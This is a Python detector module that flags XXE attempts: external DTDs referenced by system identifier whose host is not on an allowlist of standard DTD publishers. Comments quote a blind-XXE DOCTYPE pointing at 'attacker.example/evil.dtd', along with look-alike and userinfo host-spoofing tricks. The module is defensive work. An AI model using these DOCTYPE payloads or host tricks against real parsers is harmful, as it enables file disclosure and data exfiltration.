"""External DTDs named by system identifier alone: the host decides (a standard publisher, or anyone's server)."""
from __future__ import annotations

import re

from sensor.detect.base import Finding

TYPE = "xxe"

# Hosts that publish the DTDs standard documents name by system identifier alone (no public id): Java's
# `properties.dtd`, TestNG suites, Flash `crossdomain.xml`, MathML 2, cXML punch-out orders, Unicode LDML, and the
# vendors whose configuration DTDs are also seen without their public id. Exact names: a look-alike
# (`java.sun.com.attacker.example`) or a userinfo trick (`http://www.w3.org@attacker.example/`) is another host.
_DTD_PUBLISHERS = frozenset((
    "www.w3.org", "w3.org", "java.sun.com", "xmlns.jcp.org", "jakarta.ee", "www.oracle.com", "docs.oracle.com",
    "testng.org", "www.testng.org", "beust.com", "www.adobe.com", "xml.cxml.org", "www.unicode.org", "unicode.org",
    "www.hibernate.org", "hibernate.org", "hibernate.sourceforge.net", "www.jboss.org", "www.springframework.org",
    "struts.apache.org", "jakarta.apache.org", "logging.apache.org", "tiles.apache.org", "www.apache.org",
    "mybatis.org", "ibatis.apache.org", "www.oasis-open.org", "docs.oasis-open.org", "www.docbook.org",
    "docbook.org", "www.apple.com", "my.netscape.com", "www.kde.org", "standards.freedesktop.org",
    "www.freedesktop.org", "www.eclipse.org", "www.mortbay.org", "jetty.mortbay.org", "checkstyle.org",
    "www.puppycrawl.com", "www.opensymphony.com", "www.getahead.org", "directwebremoting.org", "www.wapforum.org",
    "www.openmobilealliance.org", "dtd.nlm.nih.gov", "jats.nlm.nih.gov", "www.ncbi.nlm.nih.gov", "www.musicxml.org",
    "www.tei-c.org", "www.sitemaps.org", "www.ehcache.org", "www.mozilla.org", "www.omg.org", "www.ietf.org",
    "openoffice.org", "www.openoffice.org", "glassfish.org", "www.quartz-scheduler.org",
))

# A DTD file fetched by system identifier alone (`<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">`) or behind
# a public id that is a single word rather than a formal `-//Owner//DTD …//EN` one: what blind XXE uses to load
# parameter entities from its own server. The identifier must name a DTD file (`.dtd`, `.ent`, `.mod`): the DOCTYPE
# point reads `name system-id`, which is also how prose writes a label and a link (`Website: https://…/?ref=abc`).
TRIGGERS = [r"^[\w:.\-]+\s+(?:[^\s/]+\s+)?(?:https?|ftp)://\S*\.(?:dtd|ent|mod)(?:[?#]\S*)?\s*$"]
_SYSTEM_ONLY = re.compile(r"^[\w:.\-]+\s+(?:[^\s/]+\s+)?(?:https?|ftp)://(?:[^/\s@]*@)?([^/\s:?#@]*)(?::\d+)?/\S*"
                          r"\.(?:dtd|ent|mod)(?:[?#]\S*)?\s*$", re.I)


def analyze(value: str) -> Finding | None:
    m = _SYSTEM_ONLY.match(value)
    # exact names: a look-alike (`java.sun.com.attacker.example`) or a userinfo trick (`http://www.w3.org@evil/`) is
    # another host
    if m is not None and m.group(1).lower().rstrip(".") not in _DTD_PUBLISHERS:
        return Finding(TYPE, "xxe:external_dtd", 0.85)
    return None
